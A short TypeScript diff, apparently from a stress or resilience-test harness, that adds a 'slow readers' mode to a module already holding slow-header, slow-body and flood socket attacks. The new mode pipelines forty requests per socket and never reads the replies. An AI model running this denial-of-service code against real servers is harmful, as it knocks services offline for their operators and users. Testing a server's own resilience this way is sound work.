@@ -3,7 +3,7 @@ import { connect, type Socket } from "node:net";
 
 /** Sockets that only take up room. */
 export interface Attack {
-	readonly kind: "slow headers" | "slow bodies" | "flood";
+	readonly kind: "slow headers" | "slow bodies" | "slow readers" | "flood";
 	readonly port: number;
 	/** How many at a time; those that are closed are opened again. */
 	readonly sockets: number;
@@ -35,6 +35,8 @@ const beginnings: Readonly<Record<Attack["kind"], string>> = {
 	"slow headers": "GET / HTTP/1.1\r\nHost: a\r\nX-",
 	"slow bodies":
 		"POST /api/leads HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{",
+	// Asks for forty pages at once and reads none.
+	"slow readers": "GET / HTTP/1.1\r\nHost: a\r\n\r\n".repeat(40),
 	flood: "",
 };
 
@@ -51,14 +53,14 @@ function begin({ kind, port, sockets, pause }: Attack): () => { open: number; op
 		let dripping: NodeJS.Timeout | undefined;
 		socket.once("connect", () => {
 			if (beginnings[kind]) socket.write(beginnings[kind]);
-			dripping = kind === "flood" ? undefined : setInterval(() => socket.write("a"), pause);
+			dripping = kind === "flood" || kind === "slow readers" ? undefined : setInterval(() => socket.write("a"), pause);
 		});
 		socket.on("error", () => {});
 		socket.once("close", () => {
 			clearInterval(dripping);
 			open.delete(socket);
 		});
-		socket.resume();
+		if (kind !== "slow readers") socket.resume();
 	};
 	setInterval(() => {
 		for (let count = 0; count < 200 && open.size < sockets; count++) one();
